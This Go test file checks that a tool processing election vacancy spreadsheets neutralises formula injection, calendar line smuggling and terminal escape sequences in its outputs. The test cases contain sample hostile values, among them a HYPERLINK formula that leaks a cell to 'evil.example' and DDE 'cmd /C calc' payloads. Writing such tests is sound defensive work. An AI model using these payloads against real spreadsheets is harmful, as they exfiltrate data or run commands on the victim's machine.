package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// Spreadsheet formula injection (CONTRACT.md, last paragraph): no cell the
// tool writes, in results.xlsx or a CSV file, starts a formula unless it is
// a number or date the tool wrote, or a link the tool made. The workbook
// is read here straight from its XML, not through excelize, so the check
// does not share the writer's assumptions.

// formulaStart reports whether a spreadsheet could take s for a formula:
// it starts with a control character, or its first visible character,
// past spaces of any kind, zero-width characters, byte-order marks and
// line breaks, is =, +, -, @ or their full-width forms (Excel and
// LibreOffice fold those to the ASCII ones on input, and trim what they
// take for blank). The list of invisible characters is this test's own.
func formulaStart(s string) bool {
	if s != "" && (s[0] < 0x20 || s[0] == 0x7f) {
		return true
	}
	s = strings.TrimLeft(s, " \t\n\r\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\u3000\u200b\u200c\u200d\u2060\ufeff\u00ad")
	r, _ := utf8.DecodeRuneInString(s)
	switch r {
	case '=', '+', '-', '@', '＝', '＋', '－', '＠':
		return !plainNumber.MatchString(s)
	}
	return false
}

// guarded reports whether a CSV value is safe: not a formula start, or
// made text by the guard's leading apostrophe.
func guarded(s string) bool { return !formulaStart(s) || strings.HasPrefix(s, "'") }

// plainNumber is a number a spreadsheet shows as a number, nothing more:
// "-250" or "-3.5" are harmless, "-2+3" is a formula.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// toolLink is the only formula the tool writes: a link to a line of its
// own workbook.
var toolLink = regexp.MustCompile(`^HYPERLINK\("#'?[A-Za-z ()0-9]+'?![A-Z]+[0-9]+","[^"]*"\)$`)

// xlsxCell is one cell of a worksheet part, as its XML says.
type xlsxCell struct {
	sheet, ref, typ, style string
	value, formula         string
	quoted                 bool // its cell format has the quotePrefix flag: text, even when edited
}

// readXLSX parses every part of a workbook with a strict XML decoder
// (a control character or a broken tag fails it, as it would fail Excel),
// and returns every cell with shared strings resolved.
func readXLSX(t *testing.T, path string) []xlsxCell {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	defer zr.Close()
	var shared []string
	var quoted map[string]bool
	var sheets []*zip.File
	for _, f := range zr.File {
		if !strings.HasSuffix(f.Name, ".xml") && !strings.HasSuffix(f.Name, ".rels") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatalf("%s: %s: %v", path, f.Name, err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("%s: %s: %v", path, f.Name, err)
		}
		if err := wellFormed(data); err != nil {
			t.Errorf("%s: part %s is not well-formed XML: %v", path, f.Name, err)
			continue
		}
		if strings.HasSuffix(f.Name, ".rels") && strings.Contains(string(data), `TargetMode="External"`) {
			t.Errorf("%s: part %s links outside the workbook", path, f.Name)
		}
		switch {
		case f.Name == "xl/sharedStrings.xml":
			shared = sharedStrings(t, data)
		case f.Name == "xl/styles.xml":
			quoted = quotePrefixed(t, data)
		case strings.HasPrefix(f.Name, "xl/worksheets/sheet"):
			sheets = append(sheets, f)
		}
	}
	var cells []xlsxCell
	for _, f := range sheets {
		rc, _ := f.Open()
		data, _ := io.ReadAll(rc)
		rc.Close()
		cells = append(cells, sheetCells(t, f.Name, data, shared)...)
	}
	for i := range cells {
		cells[i].quoted = quoted[cells[i].style]
	}
	return cells
}

// quotePrefixed lists the cell formats (by index, as a cell's s attribute
// names them) that carry the quotePrefix flag.
func quotePrefixed(t *testing.T, data []byte) map[string]bool {
	t.Helper()
	var st struct {
		Xf []struct {
			QuotePrefix string `xml:"quotePrefix,attr"`
		} `xml:"cellXfs>xf"`
	}
	if err := xml.Unmarshal(data, &st); err != nil {
		t.Fatalf("styles.xml: %v", err)
	}
	out := map[string]bool{}
	for i, xf := range st.Xf {
		if xf.QuotePrefix == "1" || xf.QuotePrefix == "true" {
			out[strconv.Itoa(i)] = true
		}
	}
	return out
}

func wellFormed(data []byte) error {
	d := xml.NewDecoder(strings.NewReader(string(data)))
	for {
		if _, err := d.Token(); err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			return err
		}
	}
}

func sharedStrings(t *testing.T, data []byte) []string {
	t.Helper()
	var sst struct {
		SI []struct {
			T string `xml:"t"`
			R []struct {
				T string `xml:"t"`
			} `xml:"r"`
		} `xml:"si"`
	}
	if err := xml.Unmarshal(data, &sst); err != nil {
		t.Fatalf("sharedStrings.xml: %v", err)
	}
	out := make([]string, len(sst.SI))
	for i, si := range sst.SI {
		s := si.T
		for _, r := range si.R {
			s += r.T
		}
		out[i] = s
	}
	return out
}

func sheetCells(t *testing.T, part string, data []byte, shared []string) []xlsxCell {
	t.Helper()
	var ws struct {
		Rows []struct {
			C []struct {
				R  string `xml:"r,attr"`
				T  string `xml:"t,attr"`
				S  string `xml:"s,attr"`
				F  string `xml:"f"`
				V  string `xml:"v"`
				IS struct {
					T string `xml:"t"`
				} `xml:"is"`
			} `xml:"c"`
		} `xml:"sheetData>row"`
	}
	if err := xml.Unmarshal(data, &ws); err != nil {
		t.Fatalf("%s: %v", part, err)
	}
	var out []xlsxCell
	for _, r := range ws.Rows {
		for _, c := range r.C {
			cell := xlsxCell{sheet: part, ref: c.R, typ: c.T, style: c.S, value: c.V, formula: c.F}
			switch c.T {
			case "s":
				i, err := strconv.Atoi(c.V)
				if err != nil || i < 0 || i >= len(shared) {
					t.Fatalf("%s %s: shared string %q out of range", part, c.R, c.V)
				}
				cell.value = shared[i]
			case "inlineStr":
				cell.value = c.IS.T
			}
			out = append(out, cell)
		}
	}
	return out
}

// assertSafeOutputs checks every output in dir: the workbook parses, no
// text cell starts a formula, the only formulas are the tool's own links,
// every CSV cell is safe unless a plain number, JSON is JSON, and the ICS
// file has no line a value smuggled in.
func assertSafeOutputs(t *testing.T, dir string) {
	t.Helper()
	if p := filepath.Join(dir, "results.xlsx"); exists(p) {
		for _, c := range readXLSX(t, p) {
			if c.formula != "" {
				if !toolLink.MatchString(c.formula) {
					t.Errorf("results.xlsx %s %s holds a formula the tool did not make: %q", c.sheet, c.ref, c.formula)
				}
				continue
			}
			text := c.typ == "s" || c.typ == "inlineStr" || c.typ == "str"
			// A text cell holding a plain number ("-250" carried through)
			// runs nothing, even when someone edits it; any other text that
			// starts like a formula must be marked quotePrefix, so that it
			// stays text when edited.
			if text && formulaStart(c.value) && !c.quoted {
				t.Errorf("results.xlsx %s %s: text %q starts a formula and is not marked quotePrefix", c.sheet, c.ref, c.value)
			}
			if !text && c.typ != "" && c.typ != "n" && c.typ != "b" {
				t.Errorf("results.xlsx %s %s: unexpected cell type %q", c.sheet, c.ref, c.typ)
			}
			if len([]rune(c.value)) > 32767 {
				t.Errorf("results.xlsx %s %s: %d characters, past Excel's 32,767", c.sheet, c.ref, len([]rune(c.value)))
			}
		}
	}
	for _, name := range []string{"vacancies.csv", "deadlines.csv", "conflicts.csv", "errors.csv"} {
		p := filepath.Join(dir, name)
		if !exists(p) {
			continue
		}
		raw, _ := os.ReadFile(p)
		if !utf8.Valid(raw) {
			t.Errorf("%s is not valid UTF-8", name)
		}
		// A CSV file is also read with cat, less and mail: no control
		// character but tab, CR and LF may reach the reader's terminal.
		for i, r := range string(raw) {
			if (r < 0x20 && r != '\t' && r != '\r' && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) {
				t.Errorf("%s holds control character %U at byte %d", name, r, i)
				break
			}
		}
		for i, rec := range readCSV(t, p) {
			for j, v := range rec {
				if !guarded(v) {
					t.Errorf("%s line %d field %d: %q starts a formula", name, i+1, j+1, v)
				}
			}
		}
	}
	if p := filepath.Join(dir, "summary.json"); exists(p) {
		b, _ := os.ReadFile(p)
		if !json.Valid(b) {
			t.Errorf("summary.json is not valid JSON")
		}
	}
	if p := filepath.Join(dir, "deadlines.ics"); exists(p) {
		b, _ := os.ReadFile(p)
		assertICSLines(t, string(b))
	}
}

// icsProperties are the only property names a deadline calendar needs.
var icsProperties = map[string]bool{
	"BEGIN": true, "END": true, "VERSION": true, "PRODID": true, "CALSCALE": true, "METHOD": true,
	"UID": true, "DTSTAMP": true, "DTSTART": true, "DTEND": true, "SUMMARY": true, "DESCRIPTION": true,
	"LOCATION": true, "CATEGORIES": true, "STATUS": true, "TRANSP": true, "SEQUENCE": true,
	"CLASS": true, "COMMENT": true, "URL": true, "X-WR-CALNAME": true, "X-WR-CALDESC": true,
	"X-WR-TIMEZONE": true, "X-PUBLISHED-TTL": true, "NAME": true, "REFRESH-INTERVAL": true,
}

// assertICSLines unfolds the calendar (RFC 5545 § 3.1) and checks every
// line is a known property and every BEGIN is a calendar or an event: a
// line break inside a value would otherwise let an input add an alarm or
// an attachment.
func assertICSLines(t *testing.T, s string) {
	t.Helper()
	s = strings.ReplaceAll(s, "\r\n ", "")
	s = strings.ReplaceAll(s, "\r\n\t", "")
	for i, line := range strings.Split(strings.TrimSuffix(s, "\r\n"), "\r\n") {
		name, _, ok := strings.Cut(line, ":")
		if !ok {
			t.Errorf("deadlines.ics line %d has no property: %q", i+1, line)
			continue
		}
		name, _, _ = strings.Cut(name, ";")
		if !icsProperties[strings.ToUpper(name)] {
			t.Errorf("deadlines.ics line %d: unexpected property %q", i+1, line)
		}
		if strings.EqualFold(name, "BEGIN") || strings.EqualFold(name, "END") {
			if v := line[len(name)+1:]; v != "VCALENDAR" && v != "VEVENT" {
				t.Errorf("deadlines.ics line %d: unexpected component %q", i+1, line)
			}
		}
		if strings.ContainsAny(line, "\r\n") {
			t.Errorf("deadlines.ics line %d holds a bare line break: %q", i+1, line)
		}
	}
}

func exists(p string) bool {
	_, err := os.Stat(p)
	return err == nil
}

// TestFormulaInjectionIsNeutralised feeds values that would run as formulas
// in every kind of column (office, district, incumbent, notes, a carried
// column, a bad cause and a bad date echoed on Errors) and reads them back
// from every output.
func TestFormulaInjectionIsNeutralised(t *testing.T) {
	out := t.TempDir()
	input := filepath.Join(hostileDir, "formula-injection.csv")
	got := run(t, "", "run", "-q", "--as-of", asOf, "--format", "xlsx,csv,ics,json", "-o", out, input)
	if got.code != 0 {
		t.Fatalf("exit %d: %s", got.code, got.stderr)
	}
	assertSafeOutputs(t, out)

	// The same values, neutralised the contract's way: an apostrophe in
	// front, the rest kept as the analyst typed it.
	vac := byHeader(readCSV(t, filepath.Join(out, "vacancies.csv")), "vacancy_id")
	cases := []struct {
		name, id, column, want string
	}{
		{"a HYPERLINK formula as office", "INJ-1", "office", `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
		{"a plus as district", "INJ-1", "district", "'+1"},
		{"a sum as incumbent", "INJ-1", "incumbent", "'-2+3"},
		{"an at-sign as notes", "INJ-1", "notes", "'@SUM(A1)"},
		{"a tab in a carried column", "INJ-1", "board_comment", "'\tx"},
		{"a full-width equals sign as incumbent", "INJ-2", "incumbent", "'＝1"},
		{"a full-width plus as notes", "INJ-2", "notes", "'＋1"},
		{"a full-width minus in a carried column", "INJ-2", "board_comment", "'－1"},
		{"a DDE call as district", "INJ-4", "district", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"a minus formula as notes", "INJ-4", "notes", "'-1+1"},
		{"a negative number in a carried column stays a number", "INJ-1", "budget_change", "-250"},
		{"a negative decimal in a carried column stays a number", "INJ-2", "budget_change", "-3.5"},
		{"the event date stays an ISO date", "INJ-1", "event_date", "2026-03-05"},
	}
	for _, tc := range cases {
		t.Run("vacancies.csv: "+tc.name, func(t *testing.T) {
			row, ok := vac[tc.id]
			if !ok {
				t.Fatalf("no row %s in vacancies.csv", tc.id)
			}
			if got := row[tc.column]; got != tc.want {
				t.Errorf("%s %s = %q, want %q", tc.id, tc.column, got, tc.want)
			}
		})
	}

	t.Run("vacancies.csv: a carriage return as district is trimmed or neutralised", func(t *testing.T) {
		if got := vac["INJ-2"]["district"]; got != "x" && got != "'\rx" {
			t.Errorf("INJ-2 district = %q, want \"x\" (trimmed) or \"'\\rx\"", got)
		}
	})

	t.Run("errors.csv echoes the bad cause and date neutralised", func(t *testing.T) {
		values := map[string]bool{}
		for _, r := range readCSV(t, filepath.Join(out, "errors.csv"))[1:] {
			for _, v := range r {
				values[v] = true
			}
		}
		for _, want := range []string{`'=cmd|' /C calc'!A0`, "'=1+2"} {
			if !values[want] {
				t.Errorf("errors.csv lacks the value %q", want)
			}
		}
	})

	t.Run("results.xlsx: text neutralised, dates stay date cells", func(t *testing.T) {
		cells := readXLSX(t, filepath.Join(out, "results.xlsx"))
		// The workbook shows the text as typed, marked quotePrefix rather
		// than behind a visible apostrophe.
		text := map[string]bool{}
		for _, c := range cells {
			if (c.typ == "s" || c.typ == "inlineStr" || c.typ == "str") && c.quoted {
				text[c.value] = true
			}
		}
		for _, want := range []string{`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "+1", "-2+3",
			"@SUM(A1)", "\tx", "＝1", "＋1", "－1", `=cmd|' /C calc'!A0`, "=1+2"} {
			if !text[want] {
				t.Errorf("results.xlsx has no quote-prefixed text cell %q", want)
			}
		}
		// 2026-03-05 is Excel serial 46086 (days since 1899-12-30): the
		// event date must be a number cell with a date format, not text.
		found := false
		for _, c := range cells {
			if (c.typ == "" || c.typ == "n") && c.value == "46086" && c.style != "" && c.style != "0" {
				found = true
			}
			if c.value == "2026-03-05" && c.typ != "" && c.typ != "n" {
				t.Errorf("%s %s: the date 2026-03-05 is written as text", c.sheet, c.ref)
			}
		}
		if !found {
			t.Errorf("results.xlsx has no styled date cell for 2026-03-05 (serial 46086)")
		}
	})
}

// byHeader indexes CSV records by one column, each as column → value.
func byHeader(recs [][]string, key string) map[string]map[string]string {
	out := map[string]map[string]string{}
	if len(recs) == 0 {
		return out
	}
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range recs[0] {
			if i < len(r) {
				m[h] = r[i]
			}
		}
		out[m[key]] = m
	}
	return out
}

// TestCheckOutputDoesNotDriveTheTerminal: values with escape sequences are
// printed by `batch check` and `batch run`; the terminal must see them
// inert.
func TestCheckOutputDoesNotDriveTheTerminal(t *testing.T) {
	input := filepath.Join(hostileDir, "ansi-escapes.csv")
	for _, args := range [][]string{
		{"check", "--fail-on", "never", "--as-of", asOf, input},
		{"run", "--as-of", asOf, "-o", t.TempDir(), input},
		{"explain", "--as-of", asOf, "--id", "ALB-0001", input},
	} {
		t.Run(args[0], func(t *testing.T) {
			got := run(t, "", args...)
			if got.code != 0 {
				t.Fatalf("exit %d: %s", got.code, got.stderr)
			}
			assertNoControlBytes(t, "stdout", got.stdout)
			assertNoControlBytes(t, "stderr", got.stderr)
			if args[0] == "check" && !strings.Contains(got.stdout, "ansi-escapes.csv:3") {
				t.Errorf("check does not report the row with the garbled cause:\n%s", got.stdout)
			}
		})
	}
}

// nameVariants are names whose first character, or first visible one,
// would start a formula in a spreadsheet, or act on a terminal.
var nameVariants = []string{
	"=HYPERLINK(1)", "+cmd", "-2+3", "@SUM(1)", "＝1",
	" =1+1", "\u00a0+2", "\u200b@x", "\ufeff=x", "\n-3+3", "\t=1", "\x1b[31m=x", "\r=x",
}

// nameWorkbook writes a workbook whose one sheet is named sheet and has a
// carried column headed header: a good vacancy and one with a bad cause,
// so that the file and sheet are echoed on Errors.
func nameWorkbook(t *testing.T, path, sheet, header string) {
	t.Helper()
	attr := strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;", "\n", "&#10;", "\t", "&#9;", "\r", "&#13;").Replace
	text := func(s string) string {
		return strings.NewReplacer("&", "&amp;", "<", "&lt;", "\r", "&#13;", "\x1b", "_x001B_").Replace(s)
	}
	row := func(r int, vals ...string) string {
		var b strings.Builder
		fmt.Fprintf(&b, `<row r="%d">`, r)
		for i, v := range vals {
			fmt.Fprintf(&b, `<c r="%c%d" t="inlineStr"><is><t xml:space="preserve">%s</t></is></c>`, 'A'+i, r, text(v))
		}
		b.WriteString(`</row>`)
		return b.String()
	}
	sheetXML := `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` +
		row(1, "vacancy_id", "office", "county", "cause", "event_date", header) +
		row(2, "NAME-1", "Town Supervisor", "Albany", "death", "2026-03-05", "v1") +
		row(3, "NAME-2", "Town Clerk", "Albany", "fell asleep", "2026-03-06", "v2") +
		`</sheetData></worksheet>`
	parts := []struct{ name, body string }{
		{"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="` + attr(sheet) + `" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", sheetXML},
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, p := range parts {
		w, _ := zw.Create(p.name)
		_, _ = io.WriteString(w, p.body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestNamesNeverReachAnOutputUnguarded: headers, sheet names and file
// names that start a formula (behind spaces, NBSP, zero-width characters,
// a byte-order mark, a line feed) or hold control characters are
// guarded in every output, workbook and CSV, and shown inert on the
// terminal by run and check.
func TestNamesNeverReachAnOutputUnguarded(t *testing.T) {
	for i, name := range nameVariants {
		t.Run(strconv.Quote(name), func(t *testing.T) {
			dir := t.TempDir()
			input := filepath.Join(dir, name+".xlsx")
			// XML cannot hold an escape character, even escaped, so no
			// sheet name can: the sheet takes the name without it.
			nameWorkbook(t, input, strings.ReplaceAll(name, "\x1b", ""), name)
			csvInput := filepath.Join(dir, name+".csv")
			head := `vacancy_id,office,county,cause,event_date,"` + strings.ReplaceAll(name, `"`, `""`) + `"` + "\n"
			if err := os.WriteFile(csvInput, []byte(head+"CSV-1,Mayor,Albany,death,2026-03-05,x\nCSV-2,Mayor,Albany,fell asleep,2026-03-05,y\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			out := filepath.Join(dir, fmt.Sprintf("out%d", i))
			got := run(t, "", "run", "--as-of", asOf, "--format", "xlsx,csv,ics,json", "-o", out, input, csvInput)
			if got.code != 0 {
				t.Fatalf("exit %d: %s", got.code, got.stderr)
			}
			assertSafeOutputs(t, out)
			assertNoControlBytes(t, "stdout", got.stdout)
			assertNoControlBytes(t, "stderr", got.stderr)
			// The names did reach the outputs (guarded, not dropped).
			var all strings.Builder
			for _, f := range []string{"vacancies.csv", "errors.csv"} {
				b, _ := os.ReadFile(filepath.Join(out, f))
				all.Write(b)
			}
			for _, want := range []string{"NAME-1", "CSV-1", "fell asleep"} {
				if !strings.Contains(all.String(), want) {
					t.Errorf("the outputs lack %s", want)
				}
			}
			chk := run(t, "", "check", "--fail-on", "never", "--as-of", asOf, input, csvInput)
			assertNoControlBytes(t, "check's stdout", chk.stdout)
			// Two rejected rows, one line each: a name with a line feed
			// adds no line (every line is a heading, an indented finding,
			// blank, or the summary).
			if n := strings.Count(chk.stdout, "is not a cause"); n != 2 {
				t.Errorf("check listed %d rejected causes, want 2:\n%s", n, chk.stdout)
			}
			for _, line := range strings.Split(strings.TrimSuffix(chk.stdout, "\n"), "\n") {
				if line != "" && !strings.HasPrefix(line, "  ") && !strings.HasSuffix(line, ":") &&
					(line[0] < '0' || line[0] > '9') {
					t.Errorf("check printed a line that is none of its own: %q", line)
				}
			}
		})
	}
}
